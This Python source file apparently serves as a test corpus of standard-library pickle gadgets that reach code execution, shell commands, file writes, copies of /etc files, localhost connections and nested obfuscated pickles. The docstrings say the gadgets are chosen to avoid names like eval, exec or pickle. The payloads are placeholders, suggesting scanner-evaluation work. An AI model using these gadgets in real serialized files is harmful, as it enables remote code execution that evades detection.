"""Gadgets of the standard library: callables that reach execution, files or the network."""

import marshal
import pickle
import zlib

from assemble import CODE, MARKER, PORT, SHELL, Ref, Build, Do, call, gadget, new, program, ref

DOCTEST = f">>> {CODE}\n"
NESTED = program(call("timeit:timeit", CODE))
LOGGING_INI = (
    "[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n[logger_root]\nhandlers=h\n"
    f"[handler_h]\nclass=StreamHandler\nargs=({CODE},)\n"
)


def code_strings():
    """Python source reaches a compiler through a function that is not called eval or exec."""
    yield "timeit-timeit", call("timeit:timeit", CODE)
    yield "timeit-repeat", call("timeit:repeat", CODE, "pass")
    yield "timeit-main", call("timeit:main", ["-n", "1", "-r", "1", CODE])
    yield "timeit-timer-method", call("timeit:Timer.timeit", call("timeit:Timer", CODE), 1)
    yield "cprofile-run", call("cProfile:run", CODE)
    yield "cprofile-runctx", call("cProfile:runctx", CODE, {}, {})
    yield "profile-run", call("profile:run", CODE)
    yield "profile-method", call("profile:Profile.run", call("profile:Profile"), CODE)
    yield "bdb-method", call("bdb:Bdb.run", call("bdb:Bdb"), CODE)
    yield "trace-method", call("trace:Trace.run", call("trace:Trace", 0, 0), CODE)
    yield "trace-runctx", call("trace:Trace.runctx", call("trace:Trace", 0, 0), CODE, {}, {})
    yield "code-runsource", call("code:InteractiveInterpreter.runsource", call("code:InteractiveInterpreter"), CODE)
    yield "code-push", call("code:InteractiveConsole.push", call("code:InteractiveConsole"), CODE)
    yield "doctest-examples", call("doctest:run_docstring_examples", DOCTEST, {})
    yield "ensurepip-run-pip", call("ensurepip:_run_pip", ["--version"], f"[{CODE}]")
    yield "runpy-run-code", call("runpy:_run_code", call("builtins:compile", CODE, "x", "exec"), {})
    yield "typing-forward-ref", call(
        "typing:ForwardRef._evaluate", call("typing:ForwardRef", CODE), {}, {}, call("builtins:frozenset"))
    yield "dataclass-create-fn", call("dataclasses:_create_fn", "f", [f"a={CODE}"], ["pass"])
    yield "idle-calltip", call("idlelib.calltip:get_entity", CODE)
    yield "idle-autocomplete", call(
        "idlelib.autocomplete:AutoComplete.get_entity", new("idlelib.autocomplete:AutoComplete"), CODE)
    yield "lib2to3-make-label", call(
        "lib2to3.pgen2.pgen:ParserGenerator.make_label", new("lib2to3.pgen2.pgen:ParserGenerator"),
        call("lib2to3.pgen2.grammar:Grammar"), f"'' and 1 or {CODE}")
    yield "test-support-python", call("test.support.script_helper:assert_python_ok", "-c", CODE)
    yield "logging-dict-config", call(
        "logging.config:dictConfig",
        {"version": 1, "formatters": {"brief": {"()": "timeit.timeit", "stmt": CODE}}})
    yield "logging-file-config", call("logging.config:fileConfig", call("io:StringIO", LOGGING_INI))
      # lazy: kept as text
    yield "types-function-code", call(call(
        "types:FunctionType", call("marshal:loads", marshal.dumps(compile(CODE, "m", "exec"))),
        {"__builtins__": ref("builtins:__dict__")}))
    yield "symtable-then-code", call(call(
        "types:LambdaType", call("builtins:compile", CODE, "weights", "exec"), {}))


def processes():
    """A process is started by a helper deep in a module about something else."""
    yield "uuid-command", call("uuid:_get_command_stdout", "sh", "-c", SHELL)
    yield "webbrowser-generic", call(
        "webbrowser:GenericBrowser.open", call("webbrowser:GenericBrowser", ["sh", "-c", SHELL]), "u")
    yield "pydoc-pipepager", call("pydoc:pipepager", "text", SHELL)
    yield "pydoc-tempfilepager", call("pydoc:tempfilepager", "text", f"{SHELL};true")
    yield "imaplib-stream", call("imaplib:IMAP4_stream", SHELL)
    yield "mailcap-findmatch", call(
        "mailcap:findmatch", {"text/plain": [{"view": "cat", "test": SHELL}]}, "text/plain")
    yield "osx-support", call("_osx_support:_read_output", SHELL)
    yield "multiprocessing-spawnv", call(
        "multiprocessing.util:spawnv_passfds", b"/bin/sh", ["sh", "-c", SHELL], ())
    yield "asyncio-shell", call("asyncio:run", call("asyncio:create_subprocess_shell", SHELL))
    yield "asyncio-transport", call(
        "asyncio.unix_events:_UnixSubprocessTransport._start", call("bdb:Bdb"), SHELL, True, None, None, None, 0)
    
    yield "pty-spawn", call("pty:spawn", ["sh", "-c", SHELL])
    yield "distutils-spawn", call("distutils.spawn:spawn", ["sh", "-c", SHELL])
    yield "ctypes-getattr", call(
        call("ctypes:CDLL.__getattr__", call("ctypes:CDLL", None), "system"), SHELL.encode())
    yield "ctypes-getitem", call(
        call("operator:getitem", call("ctypes:PyDLL", None), "system"), SHELL.encode())
    yield "ctypes-pyrun", call(
        call("operator:getitem", ref("ctypes:pythonapi"), "PyRun_SimpleString"), CODE.encode())
    
    yield "sysconfig-through-alias", call("random:_os.system", SHELL)
    yield "dotted-through-package", call("logging:os.system", SHELL)
    yield "dotted-then-call", call(call(
        call("operator:attrgetter", "system"), call("operator:getitem", ref("collections:_sys.modules"), "posix")), SHELL)


def resolvers():
    """A callable is found by its name in text, then called."""
    system = "posix.system"
    yield "entry-point", call(call(
        "importlib.metadata:EntryPoint.load", call("importlib.metadata:EntryPoint", "x", "posix:system", "g")), SHELL)
    yield "logging-resolve", call(call("logging.config:_resolve", system), SHELL)
    yield "configurator-resolve", call(call(
        "logging.config:BaseConfigurator.resolve", call("logging.config:BaseConfigurator", {}), system), SHELL)
    yield "pydoc-locate", call(call("pydoc:locate", system), SHELL)
    yield "inspect-static", call(call(
        "inspect:getattr_static", call("importlib:import_module", "posix"), "system"), SHELL)
    
    yield "formatter-field-called", call(call(call("operator:itemgetter", 0), call(
        "string:Formatter.get_field", call("string:Formatter"), "0.system",
        (call("importlib:import_module", "posix"),), {})), SHELL)
    yield "dict-of-module", call(call(
        "builtins:dict.get", call("builtins:vars", call("importlib:import_module", "posix")), "system"), SHELL)
    yield "methodcaller", call(call("operator:methodcaller", "system", SHELL), call("importlib:import_module", "posix"))
    yield "reduce-getattr", call(call(
        "functools:reduce", ref("builtins:getattr"), ["system"], call("importlib:import_module", "posix")), SHELL)
    yield "object-getattribute", call(call(
        "types:ModuleType.__getattribute__", call("importlib:import_module", "posix"), "system"), SHELL)
    
    yield "import-internal", call(
        call(call("operator:attrgetter", "system"), call("importlib._bootstrap:_gcd_import", "posix")), SHELL)
    yield "modules-of-codecs", call(
        call(call("operator:attrgetter", "system"), call("codecs:sys.modules.__getitem__", "posix")), SHELL)
    yield "globals-of-function", call(call(
        "builtins:dict.get", ref("codecs:open.__builtins__"), "exec"), CODE)
    yield "globals-of-initialiser", call(call(
        "operator:getitem", ref("os:_wrap_close.__init__.__globals__"), "system"), SHELL)


def callers():
    """The dangerous callable is handed to something that calls it, now or later."""
    run = ref("timeit:timeit")
    yield "operator-call", call("operator:call", run, CODE)
    yield "bound-method", call(call("types:MethodType", run, CODE))
    yield "copy-reconstruct", call("copy:_reconstruct", None, None, run, (CODE,))
    yield "copy-reconstruct-stream", call(
        "copy:_reconstruct", None, None, ref("imaplib:IMAP4_stream"), (SHELL,))
    yield "map-to-list", call("builtins:list", call("builtins:map", run, [CODE]))
    yield "filter-to-tuple", call("builtins:tuple", call("builtins:filter", run, [CODE]))
    yield "starmap", call(
        "collections:deque", call("itertools:starmap", run, [(CODE,)]))
    yield "sorted-by-partial", call("builtins:all", call("builtins:map", run, (CODE,)))
    yield "groupby", call("builtins:next", call("itertools:groupby", [CODE], run))
    yield "accumulate", call("builtins:list", call("itertools:accumulate", [CODE, "pass"], run))
    yield "iter-sentinel", call("builtins:next", call("builtins:iter", call("functools:partial", run, CODE), 0))
    yield "partial-setstate", call(Build(
        new("functools:partial", ref("builtins:print")), (run, (CODE,), {}, None)))
    yield "lru-cache", call(call("functools:_lru_cache_wrapper", run, None, False, ref("functools:_CacheInfo")), CODE)
    yield "atexit", call("atexit:register", run, CODE)
    yield "finalize", call("weakref:finalize", call("bdb:Bdb"), run, CODE)
    yield "timer-run", call("threading:Timer.run", call("threading:Timer", 0, run, [CODE]))
    yield "work-item", call("concurrent.futures.thread:_WorkItem.run", call(
        "concurrent.futures.thread:_WorkItem", call("concurrent.futures:Future"), run, (CODE,), {}))
    yield "executor-submit", call(
        "concurrent.futures:ThreadPoolExecutor.submit", call("concurrent.futures:ThreadPoolExecutor", 1), run, CODE)
    yield "call-frames-removed", call(
        "importlib._bootstrap:_call_with_frames_removed", run, CODE)
    yield "defaultdict-factory", call(
        "operator:getitem", call("collections:defaultdict", call("functools:partial", run, CODE)), "weights")
    
    
    yield "contextvars-run", call("contextvars:Context.run", call("contextvars:copy_context"), run, CODE)
    yield "event-loop-handle", call("asyncio.events:Handle._run", call(
        "asyncio.events:Handle", run, (CODE,), call("asyncio:new_event_loop")))
    yield "unittest-function-case", call(
        "unittest.case:FunctionTestCase.runTest",
        call("unittest.case:FunctionTestCase", call("functools:partial", run, CODE)))
    
    
    yield "argparse-type", call(
        "argparse:ArgumentParser._get_value", call("argparse:ArgumentParser"),
        Build(new("argparse:Namespace"), {"type": run, "option_strings": []}), CODE)


def decoders():
    """A second pickle inside, opened by something that is not called pickle."""
    yield "grammar-loads", call("lib2to3.pgen2.grammar:Grammar.loads", call("lib2to3.pgen2.grammar:Grammar"), NESTED)
    yield "forking-pickler", call("multiprocessing.reduction:ForkingPickler.loads", NESTED)
    yield "unpickler-load", call("pickle:_Unpickler.load", call("pickle:_Unpickler", call("io:BytesIO", NESTED)))
    yield "zlib-nested", call("pickle:loads", call("zlib:decompress", zlib.compress(NESTED)))
    yield "hex-nested", call("_pickle:loads", call("builtins:bytes.fromhex", NESTED.hex()))
    yield "base85-nested", call(
        "pickle:_loads", call("base64:b85decode", __import__("base64").b85encode(NESTED)))
    yield "reversed-nested", call("pickle:loads", call("builtins:bytes", call("builtins:reversed", NESTED[::-1])))
    yield "joined-nested", call("pickle:loads", call("builtins:bytes.join", b"", [NESTED[:9], NESTED[9:]]))
    yield "translated-nested", call("pickle:loads", call(
        "builtins:bytes.translate", bytes(b ^ 0x5A for b in NESTED), bytes(b ^ 0x5A for b in range(256))))
    yield "mailbox-connection", call("multiprocessing.connection:_ForkingPickler.loads", NESTED)
    yield "logging-socket", call("logging.handlers:pickle.loads", NESTED)


def files_and_network():
    """No execution at once: a file is written, removed or sent."""
    yield "urlretrieve-data", call("urllib.request:urlretrieve", "data:,alive", MARKER)
    yield "distutils-write-file", call("distutils.file_util:write_file", MARKER, ["alive"])
    yield "path-write-text", call("pathlib:Path.write_text", call("pathlib:Path", MARKER), "alive")
    yield "path-touch", call("pathlib:Path.touch", call("pathlib:PosixPath", MARKER))
    yield "file-io", call("_io:FileIO", MARKER, "w")
    yield "pyio-open", call("_pyio:open", MARKER, "w")
    yield "gzip-file", call("gzip:GzipFile", MARKER, "wb")
    yield "lzma-open", call("lzma:open", MARKER, "wb")
    yield "codecs-open", call("codecs:open", MARKER, "w")
    yield "log-file-handler", call(
        "logging:FileHandler", MARKER)
    yield "sqlite-script", call("sqlite3:Connection.executescript", call("sqlite3:connect", MARKER), "create table t(x)")
    yield "zip-file", call("zipfile:ZipFile", MARKER, "w")
    yield "tarfile-open", call("tarfile:TarFile.open", MARKER, "w")
    yield "wave-open", call("wave:open", MARKER, "wb")
    yield "venv-create", call("venv:create", MARKER)
    yield "profile-dump", call("cProfile:Profile.dump_stats", call("cProfile:Profile"), MARKER)
    yield "readline-history", call("readline:write_history_file", MARKER)
    yield "copyfile", call("shutil:copyfile", "/etc/hostname", MARKER)
    yield "copytree", call(
        "shutil:copytree", "/etc/security", MARKER)


def connections():
    """The file calls home when it is opened."""
    yield "socket-connect", call("socket:create_connection", ("127.0.0.1", PORT))
    yield "http-connection", call("http.client:HTTPConnection.connect", call("http.client:HTTPConnection", "127.0.0.1", PORT))
    yield "urlopen", call("urllib.request:urlopen", f"http://127.0.0.1:{PORT}/w", None, 2)
    yield "smtp", call("smtplib:SMTP", "127.0.0.1", PORT, None, 2)
    yield "ftp", call("ftplib:FTP.connect", call("ftplib:FTP"), "127.0.0.1", PORT, 2)
    yield "multiprocessing-client", call("multiprocessing.connection:Client", ("127.0.0.1", PORT))
    yield "syslog-handler", call("logging.handlers:SocketHandler.createSocket", call("logging.handlers:SocketHandler", "127.0.0.1", PORT))
    yield "xmlrpc", call(
        call("xmlrpc.client:ServerProxy.__getattr__", call("xmlrpc.client:ServerProxy", f"http://127.0.0.1:{PORT}"), "x"))
    yield "telnet", call("telnetlib:Telnet", "127.0.0.1", PORT, 2)


def companions():
    """Code that lies beside the pickle is imported or run."""
    script = {"x.py": CODE.encode()}
    yield "run-path", call("runpy:run_path", "x.py"), script
    yield "run-module", call("runpy:run_module", "x"), script
    yield "spawn-main", call("multiprocessing.spawn:prepare", {"init_main_from_path": "x.py"}), script
    yield "source-loader", call(
        "importlib.machinery:SourceFileLoader.load_module", call("importlib.machinery:SourceFileLoader", "x", "x.py")), script
    yield "imp-load-source", call("imp:load_source", "x", "x.py"), script
    yield "distutils-run-setup", call("distutils.core:run_setup", "x.py"), script
    yield "doctest-testfile", call("doctest:testfile", "t.txt", False), {"t.txt": DOCTEST.encode()}
    yield "site-add-package", call("site:addpackage", "sd", "x.pth", call("builtins:set")), {"sd/x.pth": b"import os;" + CODE.encode()}
    yield "site-add-dir", call("site:addsitedir", "sd"), {"sd/x.pth": b"import os;" + CODE.encode()}
    yield "plain-import", ref("x:weights"), {"x.py": CODE.encode() + b";weights=[1]"}
    


def all():
    """Every gadget of this file, dead ones included: the proof sorts them out."""
    families = {
        "code-string": code_strings, "process": processes, "resolver": resolvers, "caller": callers, "decoder": decoders,
        "file": files_and_network,
    }
    for family, source in families.items():
        for name, node in source():
            yield gadget(name, f"stdlib-{family}", node)
    for name, node in connections():
        yield gadget(name, "stdlib-network", node, proof="connect")
    for name, node, beside in companions():
        yield gadget(name, "stdlib-companion", node, beside=beside)
